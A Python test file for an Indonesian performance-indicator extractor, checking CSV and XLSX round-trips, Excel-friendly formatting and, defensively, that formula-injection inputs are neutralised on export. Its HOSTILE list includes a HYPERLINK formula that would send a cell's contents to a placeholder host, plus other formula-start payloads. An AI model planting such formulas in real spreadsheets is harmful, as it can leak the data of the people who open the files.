"""The flat sheet: CSV and XLSX as an office opens them, and both read back into the same records."""

from __future__ import annotations

import csv
import io
import subprocess
from pathlib import Path

import openpyxl
import pytest
from conftest import FIXTURES, SEED

import ekstrak
from ekstrak.formats.csvfile import csv_bytes
from ekstrak.formats.xlsxfile import xlsx_bytes
from inti.kolom import COLUMNS

DOCUMENTS = [SEED, FIXTURES / "pk_pengadilan_satuan.txt", FIXTURES / "iku_dinas_landscape_layout.txt"]


def _xlsx_roundtrip(doc: ekstrak.Dokumen, tmp_path: Path) -> ekstrak.Dokumen:
    path = tmp_path / "iku.xlsx"
    path.write_bytes(xlsx_bytes(doc))
    return ekstrak.extract(path)


@pytest.mark.parametrize("source", DOCUMENTS, ids=lambda p: p.stem)
def test_json_to_xlsx_to_json_is_the_identity(source, tmp_path):
    doc = ekstrak.extract(source)
    assert _xlsx_roundtrip(doc, tmp_path).to_dict() == doc.to_dict()


def test_identity_holds_for_unmatched_targets_and_warnings(tmp_path):
    doc = ekstrak.extract_text("NO\tSASARAN\tINDIKATOR\tTARGET\n1\tA\t1. satu 2. dua 3. tiga\t80% 70%\n")
    assert doc.sasaran[0].target_mentah == "80% 70%" and doc.peringatan
    assert _xlsx_roundtrip(doc, tmp_path).to_dict() == doc.to_dict()


def _target_fields(doc: ekstrak.Dokumen) -> list:
    return [
        (s.kelompok, s.nomor, s.uraian, i.nomor, i.uraian, i.target.to_dict() if i.target else None)
        for s in doc.sasaran
        for i in s.indikator
    ]


@pytest.mark.parametrize("source", DOCUMENTS, ids=lambda p: p.stem)
def test_json_to_csv_to_json_keeps_every_sasaran_indicator_and_target(source, tmp_path):
    doc = ekstrak.extract(source)
    path = tmp_path / "iku.csv"
    path.write_bytes(csv_bytes(doc))
    back = ekstrak.extract(path)
    assert _target_fields(back) == _target_fields(doc)
    assert [(s.halaman, s.baris) for s in back.sasaran] == [(s.halaman, s.baris) for s in doc.sasaran]


def test_csv_opens_in_indonesian_excel():
    data = csv_bytes(ekstrak.extract(SEED))
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][: len(COLUMNS)] == list(COLUMNS)
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["nilai_target"] == "3,1" and first["target"] == "3,1 Indeks" and first["satuan"] == "Indeks"
    assert (first["polaritas"], first["realisasi"], first["keterangan"]) == ("", "", "")
    assert len(rows) == 1 + 53
    assert all(r[2] for r in rows[1:]), "sasaran text on every row"


def test_csv_with_commas_is_read_too(tmp_path):
    text = "kelompok,no_sasaran,sasaran,no_indikator,indikator,target,nilai_target,satuan\n,1,A,1,Indikator a,80%,,\n"
    path = tmp_path / "koma.csv"
    path.write_text(text, encoding="utf-8")
    doc = ekstrak.extract(path)
    assert doc.sasaran[0].indikator[0].target.to_dict() == {"teks": "80%", "nilai": 80, "satuan": "%"}


def test_xlsx_is_styled_for_filling_in():
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(ekstrak.extract(SEED))))
    assert book.sheetnames == ["Indikator", "Dokumen", "Anggaran"]
    sheet = book["Indikator"]
    header = [c.value for c in sheet[1]]
    assert header[: len(COLUMNS)] == list(COLUMNS)
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["E"].width >= 40
    assert sheet["E2"].alignment.wrap_text
    (check,) = sheet.data_validations.dataValidation
    assert check.formula1 == '"naik,turun,stabil"'
    assert str(check.sqref) == "I2:I54"
    info = {r[0].value: r[1].value for r in book["Dokumen"].iter_rows(min_row=2)}
    assert info == {
        "judul": "INDIKATOR KINERJA UTAMA",
        "instansi": "KANTOR WILAYAH KEMENTERIAN HUKUM DAN HAM SULAWESI BARAT",
        "tahun": 2022,
    }
    assert [c.value for c in book["Anggaran"][1]] == ["uraian", "teks", "nilai", "realisasi"]
    values = [r[6].value for r in sheet.iter_rows(min_row=2, max_row=3)]
    assert values == [3.1, 81]


def _sheet_with(tmp_path: Path, **changes) -> Path:
    """The seed's sheet with the first indicator's cells changed as an office might."""
    path = tmp_path / "isi.xlsx"
    path.write_bytes(xlsx_bytes(ekstrak.extract(SEED)))
    book = openpyxl.load_workbook(path)
    sheet = book["Indikator"]
    header = [c.value for c in sheet[1]]
    for name, value in changes.items():
        sheet.cell(row=2, column=header.index(name) + 1).value = value
    book.save(path)
    return path


def test_sheet_values_are_re_read_from_target_where_empty(tmp_path):
    doc = ekstrak.extract(_sheet_with(tmp_path, target="4,5 Indeks", nilai_target=None, satuan=None))
    assert doc.sasaran[0].indikator[0].target.to_dict() == {"teks": "4,5 Indeks", "nilai": 4.5, "satuan": "Indeks"}
    assert doc.peringatan == ()


def test_sheet_values_filled_in_are_kept_with_a_warning_where_they_disagree(tmp_path):
    doc = ekstrak.extract(_sheet_with(tmp_path, nilai_target=3.5))
    assert doc.sasaran[0].indikator[0].target.nilai == 3.5
    (warning,) = doc.peringatan
    assert "3,5" in warning.pesan and "3,1 Indeks" in warning.pesan and warning.baris == 2


HOSTILE = [
    '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'=sudah berkutip",
    "''@dua kutip",
    "- Persentase dengan tanda hubung",
]


FOLDED = [" ".join(text.split()) for text in HOSTILE]  # sheets fold whitespace, as extraction does


def _hostile_doc() -> ekstrak.Dokumen:
    indikator = [ekstrak.Indikator(n, text, ekstrak.Target(text)) for n, text in enumerate(HOSTILE, start=1)]
    sasaran = ekstrak.Sasaran(1, "=KELOMPOK()", "=SASARAN()", indikator)
    return ekstrak.Dokumen("=JUDUL", "@instansi", 2024, [sasaran], [ekstrak.Anggaran("=1+1", "-5", -5)])


def test_xlsx_text_is_never_a_formula_and_reads_back(tmp_path):
    doc = _hostile_doc()
    data = xlsx_bytes(doc)
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    assert book["Indikator"]["E2"].value == HOSTILE[0]
    assert book["Anggaran"]["C2"].value == -5 and book["Anggaran"]["C2"].data_type == "n"
    back = _xlsx_roundtrip(doc, tmp_path)
    assert [i.uraian for i in back.sasaran[0].indikator] == FOLDED
    assert back.sasaran[0].uraian == "=SASARAN()" and back.judul == "=JUDUL"


def test_xlsx_opened_by_libreoffice_shows_text_not_a_link(tmp_path):
    path = tmp_path / "iku.xlsx"
    path.write_bytes(xlsx_bytes(_hostile_doc()))
    out = tmp_path / "csv"
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path}/lo", "--headless", "--convert-to", "csv", "--outdir",
         str(out), str(path)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    shown = (out / "iku.csv").read_text(encoding="utf-8", errors="replace")
    assert "HYPERLINK" in shown and "Klik" not in shown.replace('"Klik"', "")


def test_csv_escapes_formula_starts_and_reads_them_back(tmp_path):
    doc = _hostile_doc()
    data = csv_bytes(doc).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data), delimiter=";"))
    header = rows[0]
    texts = [row[header.index("indikator")] for row in rows[1:]]
    assert all(not t or t[0] not in "=+-@\t\r" for t in texts)
    assert texts[0] == "'" + HOSTILE[0] and texts[6] == "''=sudah berkutip"
    assert rows[1][header.index("sasaran")] == "'=SASARAN()"
    path = tmp_path / "iku.csv"
    path.write_text(data, encoding="utf-8")
    back = ekstrak.extract(path)
    assert [i.uraian for i in back.sasaran[0].indikator] == FOLDED
    assert [i.target.teks for i in back.sasaran[0].indikator] == FOLDED
    assert back.sasaran[0].kelompok == "=KELOMPOK()"
